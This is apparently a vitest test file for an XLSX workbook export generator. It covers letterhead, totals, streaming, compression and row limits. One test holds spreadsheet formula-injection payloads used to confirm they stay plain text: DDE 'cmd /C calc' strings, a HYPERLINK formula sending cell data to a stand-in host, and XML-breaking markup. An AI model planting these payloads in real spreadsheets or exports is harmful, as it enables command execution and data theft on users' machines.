import { constants, inflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Letterhead, ListExport } from '../../../../server/formats/sheets/sheet.ts';
import { type Cell, numberCell, type RowRole } from '../../../../server/formats/sheets/sheet.ts';
import { generateXlsxChunks } from '../../../../server/formats/sheets/xlsx.ts';
import { NOW } from '../../../support/rows.ts';
import { readXlsx } from '../../../support/xlsx.ts';

type Row = { cells: Cell[]; role?: RowRole };

const head: Letterhead = {
  empresa: 'Constructora & Cía',
  rfc: 'AAA010101AAA',
  direccion: 'Av. 1\nMonterrey',
  title: 'Una lista: prueba/1',
  filters: [{ label: 'Proveedor', value: '=cmd' }],
  generatedText: 'Generado hoy',
};

const listOf = (headings: string[], pages: Iterable<Row[]> | AsyncIterable<Row[]>): ListExport<Row> => ({
  file: 'prueba',
  title: head.title,
  filters: head.filters,
  noun: ['fila', 'filas'],
  sheet: {
    columns: headings.map((heading, index) => ({
      name: heading,
      heading,
      cell: ({ cells }) => cells[index] ?? null,
    })),
    pages,
    roleOf: ({ role }) => role,
  },
  toRecords: (rows) => rows,
});

async function make(list: ListExport<Row>, letterhead = head): Promise<Uint8Array> {
  const chunks: Uint8Array[] = [];
  for await (const chunk of generateXlsxChunks(list, letterhead, new Date(NOW))) chunks.push(chunk);
  return Buffer.concat(chunks);
}

/** Counts the rows in the part of a workbook that was sent so far. */
function rowsPacked(bytes: Buffer): number {
  return sheetOf(bytes).split('<row ').length - 1;
}

function sheetOf(bytes: Buffer): string {
  const name = 'xl/worksheets/sheet1.xml';
  const at = bytes.indexOf(name);
  if (at < 0) return '';
  const start = at + name.length + bytes.readUInt16LE(at - 2);
  return inflateRawSync(bytes.subarray(start), { finishFlush: constants.Z_SYNC_FLUSH }).toString();
}

const rowsOf = (...cells: Cell[][]): Row[][] => [cells.map((one) => ({ cells: one }))];

describe('T21 · text in a workbook', () => {
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const before = ['', ' ', '\t', '\u00a0', '\ufeff'];
  const hostile = [
    ...signs.flatMap((sign) => before.map((start) => `${start}${sign}1+1`)),
    '=HYPERLINK("https://malo.test?"&A1,"ver")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    '=";"&A1',
    '<f>1+1</f>',
    '</t></is></c><c><f>1</f></c>',
    '+52 (55) 5000 1001',
  ];

  it(`is text, whatever it begins with, and unchanged (${hostile.length} payloads)`, async () => {
    expect(hostile.length).toBeGreaterThanOrEqual(40);
    const bytes = await make(
      listOf(['=A1', 'Cantidad'], rowsOf(...hostile.map((text): Cell[] => [text, { cents: -105 }]))),
    );
    const { sheet, headings, rows, totals } = await readXlsx(bytes);
    expect(headings[0]).toBe('=A1');
    expect(rows.map((row) => row['=A1'])).toEqual(hostile);
    expect(new Set(rows.map((row) => row.Cantidad))).toEqual(new Set([-1.05]));
    const formulas: string[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cell.formula && formulas.push(cell.formula)));
    expect(formulas).toEqual([totals.Cantidad?.formula]);
  });

  it('is read back unchanged, with markup, line breaks and apparent escapes, without what XML cannot represent', async () => {
    const texts = ['a & b < c > "d"', 'dos\nlíneas', '_xfff', '😀 ñ 漢字', '  orillas  ', "it's", ']]>'];
    const { rows } = await readXlsx(await make(listOf(['a'], rowsOf(...texts.map((text) => [text])))));
    expect(rows.map(({ a }) => a)).toEqual(texts);
    const odd = await readXlsx(
      await make(
        listOf(
          ['a'],
          rowsOf(['x\u0000\u0008y\ud800z\ufffe'], ['y'.repeat(40_000)], ['a\r\nb\rc'], ['_x0041_']),
        ),
      ),
    );
    expect(odd.rows.map(({ a }) => a)).toEqual([
      'xy\ufffdz',
      'y'.repeat(32_767),
      'a\nb\nc',
      '_x005F_x0041_', // which Excel shows as _x0041_; exceljs does not read escapes
    ]);
  });
});

describe('a workbook', () => {
  it('has real dates and figures, letterhead, frozen headings, a filter, and prints its headings on every page', async () => {
    const bytes = await make(
      listOf(
        ['ID', 'Día', 'Total'],
        rowsOf([1, { date: '2026-02-28' }, { cents: 999_999_999_999 }], [2, null, { cents: 1 }]),
      ),
    );
    const { name, rows, totals, sheet } = await readXlsx(bytes);
    expect(name).toBe('Una lista  prueba 1');
    expect(rows).toEqual([
      { ID: 1, Día: new Date('2026-02-28'), Total: 9_999_999_999.99 },
      { ID: 2, Día: null, Total: 0.01 },
    ]);
    expect(totals).toEqual({ Total: { formula: 'SUBTOTAL(9,C8:C9)', result: 10_000_000_000 } });
    expect(sheet.getCell('B8').numFmt).toBe('dd/mm/yyyy');
    expect(sheet.getCell('C8').numFmt).toContain('#,##0.00');
    expect(sheet.autoFilter).toBe('A7:C9');
    expect(sheet.pageSetup.printTitlesRow).toBe('7:7');
    expect(sheet.pageSetup.fitToWidth).toBe(1);
    expect([1, 2, 3, 4, 5].map((row) => sheet.getCell(row, 1).value)).toEqual([
      'Constructora & Cía',
      'RFC AAA010101AAA  ·  Av. 1 Monterrey',
      'Una lista: prueba/1',
      'Proveedor: =cmd',
      'Generado hoy',
    ]);
  });

  it('begins with its title without settings of the company and a filter, and has no formula without rows', async () => {
    const bare = { ...head, empresa: '', rfc: '', direccion: '', filters: [] };
    const { sheet, headings, rows, totals } = await readXlsx(await make(listOf(['a', 'b'], []), bare));
    expect(sheet.getCell('A1').value).toBe('Una lista: prueba/1');
    expect([headings, rows, totals]).toEqual([['a', 'b'], [], {}]);
  });

  it('is wide enough for what is below a short first page, and for the sums', async () => {
    const line = (text: string, cents: number): Row => ({ cells: [text, { cents }] });
    const many = Array.from({ length: 90 }, () => line('Residencial Los Encinos, manzana C', 999_999_99));
    const bytes = await make(listOf(['Obra', 'Gasto'], [[{ cells: ['', null], role: 'apart' }], many]));
    const { sheet } = await readXlsx(bytes);
    expect(sheet.getColumn(1).width).toBeGreaterThan('Residencial Los Encinos, manzana C'.length);
    expect(sheet.getColumn(2).width).toBeGreaterThan('$89,999,999.10'.length);
  });

  it('prints on letter paper, on as many pages side by side as needed, each with the first columns', async () => {
    const few = await readXlsx(await make(listOf(['ID', 'Nombre'], rowsOf([1, 'a']))));
    expect([few.sheet.pageSetup.paperSize, few.sheet.pageSetup.fitToWidth]).toEqual([1, 1]);
    expect(few.sheet.pageSetup.printTitlesColumn).toBeUndefined();
    const headings = Array.from({ length: 20 }, (_, n) => `Columna número ${n}`);
    const { pageSetup } = (await readXlsx(await make(listOf(headings, rowsOf(['a']))))).sheet;
    expect([pageSetup.fitToWidth, pageSetup.fitToHeight]).toEqual([2, 0]);
    expect([pageSetup.printTitlesColumn, pageSetup.printTitlesRow]).toEqual(['A:B', '7:7']);
  });

  it('keeps text apart from the figures before it, and shows a number with all its decimals', async () => {
    const { sheet } = await readXlsx(await make(listOf(['Tasa', 'Nota'], rowsOf([8.25, 'x']))));
    expect([sheet.getCell('A8').value, sheet.getCell('A8').numFmt ?? 'General']).toEqual([8.25, 'General']);
    expect(sheet.getCell('B8').alignment).toMatchObject({ horizontal: 'left', indent: 1 });
    expect(sheet.getCell('B7').alignment).toMatchObject({ horizontal: 'left', indent: 1 });
  });

  it('has the sums of each kind of rows above the total if there are several kinds', async () => {
    const parts = {
      column: 'Tipo',
      labels: [
        ['Pago', 'Total pagado'],
        ['Nota', 'Total notas'],
      ],
    } as const;
    const listed = (...cells: Cell[][]) => {
      const list = listOf(['ID', 'Tipo', 'Cantidad'], rowsOf(...cells));
      return { ...list, sheet: { ...list.sheet, sumBreakdown: parts } };
    };
    const mixed = await readXlsx(
      await make(listed([1, 'Pago', { cents: 500 }], [2, 'Nota', { cents: 70 }], [3, 'Pago', { cents: 3 }])),
    );
    expect(
      [11, 12, 13].map((row) => [mixed.sheet.getCell(row, 1).value, mixed.sheet.getCell(row, 3).value]),
    ).toEqual([
      ['Total pagado', { formula: 'SUMIFS(C8:C10,B8:B10,"Pago")', result: 5.03 }],
      ['Total notas', { formula: 'SUMIFS(C8:C10,B8:B10,"Nota")', result: 0.7 }],
      ['Total (3 filas)', { formula: 'SUBTOTAL(9,C8:C10)', result: 5.73 }],
    ]);
    expect(mixed.sheet.autoFilter).toBe('A7:C10');
    const plain = await readXlsx(await make(listed([1, 'Pago', { cents: 500 }])));
    expect(plain.sheet.getCell('A9').value).toBe('Total (1 fila)');
  });

  it('sums groups and their total without counting anything twice, and only what can be added up', async () => {
    const row = (text: string, cents: number, role?: RowRole): Row => ({ cells: [text, { cents }], role });
    const bytes = await make(
      listOf(
        ['Nombre', 'Total'],
        [
          [row('antes', 7_777, 'apart'), row('a', 100), row('b', 200), row('Total a', 300, 'group')],
          [
            row('c', 50),
            row('Total c', 50, 'group'),
            row('Total general', 350, 'total'),
            row('fuera', 9, 'apart'),
          ],
        ],
      ),
    );
    const { sheet } = await readXlsx(bytes);
    const cell = (row: number) => sheet.getCell(row, 2).value;
    expect([11, 13].map(cell)).toEqual([
      { formula: 'SUBTOTAL(9,B8:B10)', result: 3 },
      { formula: 'SUBTOTAL(9,B12:B12)', result: 0.5 },
    ]);
    expect(cell(14)).toEqual({ formula: 'SUBTOTAL(9,B8:B13)', result: 3.5 });
    expect(cell(15)).toBe(0.09);
  });

  it('is made as it is read, with at most a page in memory, and stops when its reader has gone', async () => {
    const seen = { read: 0, ended: false };
    async function* pages(): AsyncGenerator<Row[]> {
      try {
        for (;;) {
          seen.read++;
          yield Array.from({ length: 1000 }, (_, n) => ({
            cells: [`${seen.read}-${n} ${Math.random()}`, { cents: n }],
          }));
        }
      } finally {
        seen.ended = true;
      }
    }
    const chunks = generateXlsxChunks(listOf(['a', 'b'], pages()), head, new Date(NOW));
    for (let taken = 0; taken < 20; taken++) await chunks.next();
    const held = seen.read;
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(seen.read - held).toBeLessThanOrEqual(5);
    await chunks.return(undefined);
    expect(seen.ended).toBe(true);
  });

  it('is compressed while it is made, so that rows do not pile up', async () => {
    const seen = { read: 0 };
    async function* pages(): AsyncGenerator<Row[]> {
      for (; seen.read < 16; seen.read++)
        yield Array.from({ length: 1000 }, (_, n) => ({
          cells: Array.from({ length: 8 }, (_, column) => `${seen.read}-${n}-${column} ${Math.random()}`),
        }));
    }
    const made: Uint8Array[] = [];
    const headings = Array.from({ length: 8 }, (_, column) => `c${column}`);
    let behind = 0;
    for await (const chunk of generateXlsxChunks(listOf(headings, pages()), head, new Date(NOW))) {
      made.push(chunk);
      if (seen.read === 12) behind ||= 12_000 - rowsPacked(Buffer.concat(made));
    }
    expect(rowsPacked(Buffer.concat(made))).toBeGreaterThan(16_000);
    expect(behind).toBeGreaterThan(0);
    expect(behind).toBeLessThan(1500); // a page of rows, and what the compressor buffers
  });

  it('stops if its source fails', async () => {
    async function* pages(): AsyncGenerator<Row[]> {
      yield [{ cells: ['a'] }];
      throw new Error('el disco falló');
    }
    await expect(make(listOf(['a'], pages()))).rejects.toThrow('el disco falló');
  });

  it('of more rows than a sheet holds is refused before anything is read, with a remedy', async () => {
    const list = { ...listOf(['a'], []), count: async () => 1_000_001 };
    await expect(make(list)).rejects.toThrow('Son 1,000,001 filas y en una hoja de Excel caben 1,000,000.');
  });
});

describe('text that only looks like a number', () => {
  it('stays text without an error mark, and a decimal is a number if that says the same', async () => {
    const exact = ['17.1234', '12', '17.123456789012345678', '0012', null].map(numberCell);
    expect(exact).toEqual([17.1234, 12, '17.123456789012345678', '0012', null]);
    const bytes = await make(
      listOf(['Folio', 'CLABE', 'Cambio'], rowsOf(['0012', '012180004643051249', exact[0]!])),
    );
    const { rows } = await readXlsx(bytes);
    expect(rows).toEqual([{ Folio: '0012', CLABE: '012180004643051249', Cambio: 17.1234 }]);
    const xml = sheetOf(Buffer.from(bytes));
    expect(xml).toContain(
      '<ignoredErrors><ignoredError sqref="A8:C8" numberStoredAsText="1"/></ignoredErrors>',
    );
    // The format prescribes the order of the elements (ECMA-376 18.3.1.99).
    expect(xml.indexOf('</headerFooter>')).toBeLessThan(xml.indexOf('<ignoredErrors>'));
    expect(xml).toMatch(/<\/ignoredErrors><\/worksheet>$/);
  });
});
